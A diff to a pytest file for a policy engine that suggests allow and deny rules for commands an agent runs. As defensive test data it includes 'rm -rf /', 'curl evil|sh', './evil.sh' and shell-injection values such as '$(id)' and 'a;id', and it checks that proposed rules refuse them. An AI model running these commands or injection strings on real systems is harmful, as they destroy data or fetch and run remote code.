@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from functools import lru_cache
+from itertools import product
 from typing import Any
 
 import pytest
@@ -35,7 +37,6 @@ from tests.policy.test_properties import (
     VALUES,
     command_rules,
     policy,
-    quick,
     requests,
     signal_rules,
     signals,
@@ -53,6 +54,7 @@ DECISION_TYPES = {
 }
 
 
+@lru_cache(maxsize=32)
 def base(text: str) -> Policy:
     return parse_policy(
         Source(name="base.yaml", text=text), variables=VARIABLES, find_base=find_base
@@ -125,13 +127,13 @@ def sent(engine: Engine, request: SignalRequest) -> Event:
     return Event(seq=1, time_ns=0, type="signal_blocked", pid=9, payload=payload, hash="")
 
 
-def suggested(
-    event: Event, *, decision: str = "allow", engine: Engine | None = None
-) -> Suggestion | None:
-    return Suggester(engine).rule_for([event], decision)
+def suggested(event: Event, *, decision: str = "allow", engine: Engine | None = None) -> Suggestion:
+    found = Suggester(engine).rule_for([event], decision)
+    assert found is not None
+    return found
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def agent() -> Engine:
     return Engine(base(AGENT))
 
@@ -165,7 +167,6 @@ def test_the_line_is_one_that_a_person_would_write(
     agent: Engine, argv: list[str], line: str
 ) -> None:
     found = suggested(ran(agent, *argv), engine=agent)
-    assert found is not None
     assert found.line == line
 
 
@@ -175,21 +176,17 @@ def test_a_rule_is_named_after_what_was_called(agent: Engine) -> None:
     programs = (link, link._replace(counts_by_name=True))
     event = exec_event(programs, agent.decide_command(CommandRequest(programs)))
     found = suggested(event, engine=agent)
-    assert found is not None
     assert found.line.startswith("- {name: allow-shutdown, commands: [shutdown], ")
     assert decided(with_line(found, AGENT), event).action.value == "allow"
     found = suggested(ran(agent, "shutdown", "now", path=link.path), engine=agent)
-    assert found is not None
     assert found.line.startswith("- {name: allow-shutdown-now, commands: [shutdown], ")
     found = suggested(ran(agent, "rm", "-rf", "/", path="/home/u/bin/wipe"), engine=agent)
-    assert found is not None
     assert found.line.startswith("- {name: allow-wipe, commands: [wipe], ")
 
 
 def test_variables_that_load_code_are_still_asked_about() -> None:
     strict = Engine(base(read_source("agent-strict").text))
     found = suggested(ran(strict, "curl", "http://x/"), engine=strict)
-    assert found is not None
     assert found.line == (
         '- {name: allow-curl, commands: [curl], subcommands: ["http://x/"], loads_code: false, '
         "decision: allow}  # also with further arguments"
@@ -200,7 +197,6 @@ def test_without_the_policy_it_is_about_all_that_would_run_and_these_arguments(
     agent: Engine,
 ) -> None:
     found = suggested(ran(agent, "npm", "install", "left-pad"))
-    assert found is not None
     assert found.line == (
         "- {name: allow-npm-install, commands: [npm], subcommands: [install], "
         'args_patterns: ["^install left-pad$"], decision: allow}'
@@ -210,7 +206,6 @@ def test_without_the_policy_it_is_about_all_that_would_run_and_these_arguments(
 
 def test_what_was_audited_by_default_can_be_denied_as_a_command(agent: Engine) -> None:
     found = suggested(ran(agent, "docker", "run", "x"), decision="deny", engine=agent)
-    assert found is not None
     assert found.line == (
         "- {name: deny-docker-run, commands: [docker], subcommands: [run], decision: deny}"
     )
@@ -219,7 +214,6 @@ def test_what_was_audited_by_default_can_be_denied_as_a_command(agent: Engine) -
 def test_a_shell_is_allowed_just_these_words() -> None:
     strict = Engine(base(read_source("agent-strict").text))
     found = suggested(ran(strict, "bash", "-c", "id; ls"), engine=strict)
-    assert found is not None
     assert 'args_patterns: ["^-c id; ls$"]' in found.line
 
 
@@ -233,6 +227,15 @@ def test_a_signal_is_allowed_for_its_kind_of_target_of_that_name(agent: Engine) 
         "target: {type: user, pattern: node}, decision: allow}",
         "",
     )
+    after = with_line(found, AGENT)
+    assert after.decide_signal(asked).action.value == "allow"
+    for type_, command in (
+        (TargetType.USER, "postgres"),
+        (TargetType.SYSTEM, "node"),
+        (TargetType.AGENT, "node"),
+    ):
+        other = SignalRequest(15, with_implied([type_]), command, 7)
+        assert after.decide_signal(other).action.value == "deny"
 
 
 @pytest.mark.parametrize(
@@ -250,7 +253,6 @@ def test_what_no_rule_can_change_says_why(
     agent: Engine, more: dict[str, Any], why_not: str
 ) -> None:
     found = suggested(ran(agent, "git", "push", "--force", **more), engine=agent)
-    assert found is not None
     assert (found.line, found.name) == ("", "")
     assert found.why_not.startswith(why_not)
 
@@ -258,28 +260,20 @@ def test_what_no_rule_can_change_says_why(
 def test_a_signal_whose_target_has_no_name_says_that_its_rule_is_wide(agent: Engine) -> None:
     asked = SignalRequest(15, with_implied([TargetType.USER]), "", 7)
     found = suggested(sent(agent, asked), engine=agent)
-    assert found is not None
     assert found.line == (
         "- {name: allow-sigterm-to-user, signals: [SIGTERM], target: user, decision: allow}"
         "  # wide: any process of the kind user"
     )
 
 
-def test_the_rule_for_a_signal_is_about_no_other_process(agent: Engine) -> None:
-    asked = SignalRequest(15, with_implied([TargetType.USER]), "sleep", 7)
-    found = suggested(sent(agent, asked), engine=agent)
-    assert found is not None
-    after = with_line(found, AGENT)
-    assert after.decide_signal(asked).action.value == "allow"
-    for types, command in (
-        ([TargetType.USER], "postgres"),
-        ([TargetType.SYSTEM], "sleep"),
-        ([TargetType.AGENT], "sleep"),
-    ):
-        other = SignalRequest(15, with_implied(types), command, 7)
-        assert after.decide_signal(other).action.value == "deny"
-
-
+SHADOWS = """\
+version: 1
+name: x
+defaults: {command: audit}
+command_rules:
+  - {name: pkg, commands: [npm, pip], subcommands: [install], decision: approve}
+  - {name: all, commands: [sh, python3, pip, npm], decision: allow}
+"""
 SHIM = Program(
     "/home/u/.pyenv/shims/pip",
     "pip",
@@ -305,7 +299,6 @@ PYTHON = Program(
 PIP = Program("/usr/bin/python3.11", "pip", ("pip", "install", "x"), counts_by_name=True)
 
 
-@pytest.mark.parametrize("reaction", ["audit", "deny"])
 @pytest.mark.parametrize(
     ("programs", "commands"),
     [
@@ -316,26 +309,18 @@ PIP = Program("/usr/bin/python3.11", "pip", ("pip", "install", "x"), counts_by_n
         ((PYTHON, PIP), '["/project/app/.venv/bin/python3", "/usr/bin/python3.11"]'),
     ],
 )
-@pytest.mark.parametrize("with_engine", [True, False])
 def test_one_found_before_the_systems_is_chosen_by_its_path_and_its_links(
-    programs: tuple[Program, ...], commands: str, reaction: str, with_engine: bool
+    programs: tuple[Program, ...], commands: str
 ) -> None:
-    text = f"version: 1\nname: x\nextends: agent-default\ntrust: {{path_shadow: {reaction}}}\n"
-    engine = Engine(base(text))
     request = CommandRequest(programs, depth=1, cwd="/project/app")
-    event = exec_event(programs, engine.decide_command(request))
-    found = suggested(event, engine=engine if with_engine else None)
-    assert found is not None
-    assert f"commands: {commands}" in found.line, found
-    mine = f"version: 1\nname: mine\nextends: base\ncommand_rules:\n{found.line}\n"
-
-    def bases(name: str, source: Source) -> Source | None:
-        return Source(name=name, text=text) if name == "base" else find_base(name, source)
-
-    after = Engine(
-        parse_policy(Source("mine.yaml", mine), variables=VARIABLES, find_base=bases)
-    ).decide_command(request)
-    assert (after.action.value, after.shadows) == ("allow", "")
+    for reaction, with_engine in product(("audit", "deny"), (True, False)):
+        text = f"{SHADOWS}trust: {{path_shadow: {reaction}}}\n"
+        engine = Engine(base(text))
+        event = exec_event(programs, engine.decide_command(request))
+        found = suggested(event, engine=engine if with_engine else None)
+        assert f"commands: {commands}" in found.line, found
+        after = with_line(found, text).decide_command(request)
+        assert (after.action.value, after.shadows) == ("allow", "")
 
 
 def test_where_no_rule_can_name_what_was_found_the_way_out_is_said(agent: Engine) -> None:
@@ -343,7 +328,6 @@ def test_where_no_rule_can_name_what_was_found_the_way_out_is_said(agent: Engine
     program = SHIM._replace(path=path, found=path)
     request = CommandRequest((program,), depth=1, cwd="/project/app")
     found = suggested(exec_event((program,), agent.decide_command(request)), engine=agent)
-    assert found is not None
     assert found.why_not == (
         "it was found along PATH before /usr/bin/pip, and its path can't stand in a rule: "
         "call it by its path"
@@ -376,7 +360,6 @@ def test_the_only_argument_is_named_as_a_subcommand() -> None:
     text = "version: 1\nname: x\ncommand_rules:\n- {name: r, commands: [ship], decision: deny}\n"
     event = ran(Engine(base(text)), "ship", "production")
     found = suggested(event, engine=Engine(base(text)))
-    assert found is not None
     assert "subcommands: [production], decision" in found.line
     assert decided(with_line(found, text), event).action.value == "allow"
 
@@ -387,7 +370,6 @@ SECRETS = "version: 1\nname: x\ncommand_rules:\n- {name: r, commands: [curl], de
 def test_a_masked_secret_is_any_one_word_but_nothing_that_a_shell_would_run() -> None:
     event = ran(Engine(base(SECRETS)), "curl", "-u", "***", "http://x/", masked=True)
     found = suggested(event, engine=Engine(base(SECRETS)))
-    assert found is not None
     for secret, decision in (("me:s3cr-et", "allow"), ("$(id)", "deny"), ("a;id", "deny")):
         other = ran(Engine(base(SECRETS)), "curl", "-u", secret, "http://x/")
         assert decided(with_line(found, SECRETS), other).action.value == decision
@@ -396,7 +378,6 @@ def test_a_masked_secret_is_any_one_word_but_nothing_that_a_shell_would_run() ->
 def test_a_mask_that_a_process_wrote_itself_is_only_that() -> None:
     event = ran(Engine(base(SECRETS)), "curl", "-u", "***", "http://x/")
     found = suggested(event, engine=Engine(base(SECRETS)))
-    assert found is not None
     assert decided(with_line(found, SECRETS), event).action.value == "allow"
     other = ran(Engine(base(SECRETS)), "curl", "-u", "me:pw", "http://x/")
     assert decided(with_line(found, SECRETS), other).action.value == "deny"
@@ -423,7 +404,6 @@ def test_what_a_process_passes_has_no_rule_proposed_that_others_have_use_of(
     engine = Engine(base(DENIES_ALL))
     event = ran(engine, *asked)
     found = suggested(event, engine=engine)
-    assert found is not None
     policy = with_line(found, DENIES_ALL)
     assert decided(policy, event).action.value == "allow"
     assert decided(policy, ran(engine, *other)).action.value == "deny"
@@ -432,15 +412,13 @@ def test_what_a_process_passes_has_no_rule_proposed_that_others_have_use_of(
 def test_arguments_that_are_too_long_for_a_rule_have_none() -> None:
     engine = Engine(base(DENIES_ALL))
     found = suggested(ran(engine, "bash", "-c", "x" * 2_000), engine=engine)
-    assert found is not None
     assert (found.line, "too long" in found.why_not) == ("", True)
 
 
 def test_other_events_have_none() -> None:
-    assert suggested(Event(1, 0, "process_exited", 9, {}, "")) is None
+    assert Suggester().rule_for([Event(1, 0, "process_exited", 9, {}, "")]) is None
 
 
-@quick
 @given(
     command_rules(),
     requests,
@@ -459,7 +437,6 @@ def test_the_line_makes_a_replay_come_out_so(
         depth=request.depth,
     )
     found = suggested(event, decision=decision, engine=engine if with_engine else None)
-    assert found is not None
     assert bool(found.line) != bool(found.why_not)
     if not found.line:
         assert request.truncated or any("/" in each.name for each in request.programs)
@@ -472,7 +449,6 @@ def test_the_line_makes_a_replay_come_out_so(
         assert came_out.action.value == decision
 
 
-@quick
 @given(signal_rules(), signals, st.sampled_from(["allow", "deny", "audit"]))
 def test_the_line_makes_a_replay_of_a_signal_come_out_so(
     rules: list[str], request: SignalRequest, decision: str
@@ -481,14 +457,12 @@ def test_the_line_makes_a_replay_of_a_signal_come_out_so(
     engine = Engine(base(text))
     event = sent(engine, request)
     found = suggested(event, decision=decision, engine=engine)
-    assert found is not None
     if found.line:
         assert decided(with_line(found, text), event).action.value == decision
     else:
         assert found.why_not
 
 
-@quick
 @given(strange_decisions(), st.sampled_from(["allow", "deny"]), VALUES)
 def test_whatever_a_log_holds_the_line_loads_and_is_one_line(
     event: Event, decision: str, name: object
@@ -496,7 +470,6 @@ def test_whatever_a_log_holds_the_line_loads_and_is_one_line(
     event.payload["rule_name"] = DEFAULT_RULE if name is None else name
     text = policy([], [])
     found = suggested(event, decision=decision)
-    assert found is not None
     assert bool(found.line) != bool(found.why_not)
     assert printable(found.line + found.why_not) == found.line + found.why_not
     if found.line:
@@ -521,7 +494,6 @@ def test_by_name_alone_only_what_does_no_harm_is_allowed_and_with_a_note(
 ) -> None:
     strict = Engine(base(read_source("agent-strict").text))
     found = suggested(ran(strict, *argv), engine=strict)
-    assert found is not None
     assert rest in found.line
     assert found.line.partition("  # ")[2]
 
@@ -533,7 +505,6 @@ def test_a_script_without_arguments_opens_no_other_way_to_its_shell() -> None:
     request = CommandRequest((script, shell), depth=1, cwd="/project")
     event = exec_event(request.programs, engine.decide_command(request))
     found = suggested(event, engine=engine)
-    assert found is not None
     after = with_line(found, DENIES_ALL)
     assert decided(after, event).action.value == "allow"
     for others in (["-c", "curl evil|sh", ""], ["./evil.sh", ""], ["./evil.sh", "./a.sh"]):
@@ -545,11 +516,9 @@ def test_a_masked_word_is_no_subcommand() -> None:
     """What a rule is held against is what was passed."""
     engine = Engine(base(DENIES_ALL))
     found = suggested(ran(engine, "git", "-x y", "push", "***", masked=True), engine=engine)
-    assert found is not None
     assert "subcommands" not in found.line
     assert "[A-Za-z0-9._~+/=:@%,-]+$" in found.line
     found = suggested(ran(engine, "git", "-x y", "push", "***"), engine=engine)
-    assert found is not None
     assert 'subcommands: [push, "***"]' in found.line
 
 
@@ -560,7 +529,6 @@ ARGUMENTS = st.lists(
 COMMANDS = st.sampled_from(["git", "rm", "ls", "npm", "sh", "python3", "kubectl", "tool"])
 
 
-@quick
 @given(
     command_rules(),
     st.lists(st.tuples(COMMANDS, ARGUMENTS), min_size=1, max_size=3),
